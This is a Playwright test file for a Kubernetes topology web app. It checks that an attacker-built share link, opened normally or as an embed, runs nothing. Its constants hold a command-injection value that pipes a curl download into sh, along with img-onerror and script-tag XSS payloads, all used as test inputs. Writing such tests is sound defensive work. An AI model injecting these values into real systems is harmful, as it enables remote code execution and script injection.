/**
 * Issue 20, "shared content must not harm", in the built app: a share link
 * built by an attacker carries shell and HTML in object names, annotations and
 * the flow. The app opens it, names the refused objects, and nothing runs:
 * no script, no event-handler attribute, no injected command to copy. The same
 * link as an embed too. (Quoting and escaping per value: shell.test.ts,
 * the export tests.)
 */
import type { Page } from '@playwright/test';
import LZString from 'lz-string';
import { expect, test } from './fixtures';

const SHELL = 'default; curl -s http://127.0.0.1:9/x | sh; #';
const IMG = '<img src=x onerror="window.__pwned=1">';
const SCRIPT = '<script>window.__pwned=2</script>';

/** The share link's wire form (src/share/codec.ts: WIRE_KEYS), written by hand as an attacker would. */
function hostileLink(embed: boolean): string {
  const state = {
    sc: {
      p: 'k8s-lab',
      e: [
        { f: 'kind: Installation\nmetadata:\n  name: default\n', r: `kind: Installation\nmetadata:\n  name: ${JSON.stringify(SHELL)}\n` },
        { f: '"client and internet hosts are illustrative"', r: JSON.stringify(IMG) },
        { a: `apiVersion: v1\nkind: Pod\nmetadata:\n  name: ${JSON.stringify(SCRIPT)}\n  namespace: demo\nspec:\n  nodeName: k8s-lab-node-1\nstatus:\n  podIP: 172.21.211.99\n` },
      ],
    },
    fl: { s: 'pod:demo/web', d: `host:${IMG}`, pr: 'tcp' },
    i: 0,
    l: 'en',
    t: 'light',
    em: embed,
  };
  return `./${embed ? '?embed=1' : ''}#share=${LZString.compressToEncodedURIComponent(JSON.stringify({ v: 1, s: state }))}`;
}

/** Everything that would show that injected content ran or became markup. */
async function injected(page: Page) {
  return page.evaluate(() => {
    const onAttrs = Array.from(document.querySelectorAll('*')).flatMap((el) => Array.from(el.attributes).filter((a) => a.name.toLowerCase().startsWith('on')).map((a) => `${el.tagName} ${a.name}`));
    const copyable = Array.from(document.querySelectorAll('pre, code, textarea, input')).map((el) => (el as HTMLInputElement).value ?? el.textContent ?? '');
    return {
      pwned: (window as unknown as { __pwned?: number }).__pwned ?? null,
      onAttrs,
      images: Array.from(document.images).filter((i) => i.getAttribute('src') === 'x').length,
      scripts: Array.from(document.scripts).filter((s) => s.textContent?.includes('__pwned')).length,
      commandsWithPayload: copyable.filter((t) => t.includes('curl -s http://127.0.0.1:9/x') && !t.includes(`'${SHELL}'`)),
    };
  });
}

const clean = { pwned: null, onAttrs: [], images: 0, scripts: 0, commandsWithPayload: [] };

test('a hostile share link opens with the bad objects named, and nothing in it runs', async ({ page }) => {
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await page.goto(hostileLink(false));
  // The rest of the scenario still loads, and the refused objects are named with their field, their values shown as text.
  const diagnostics = page.locator('details', { hasText: 'metadata.name' }).first();
  await diagnostics.locator('summary').click({ timeout: 30_000 });
  await expect(page.getByTestId('topology').locator('[data-element="node:k8s-lab-win-1"]')).toBeVisible();
  await expect(diagnostics).toContainText(SHELL);
  await expect(diagnostics).toContainText(SCRIPT);
  expect(await injected(page)).toEqual(clean);
  expect(dialogs).toEqual([]);
});

test('the same link as an embed runs nothing either', async ({ page }) => {
  await page.setViewportSize({ width: 640, height: 360 });
  await page.goto(hostileLink(true));
  await expect(page.getByTestId('embed')).toBeVisible();
  expect(await injected(page)).toEqual(clean);
});
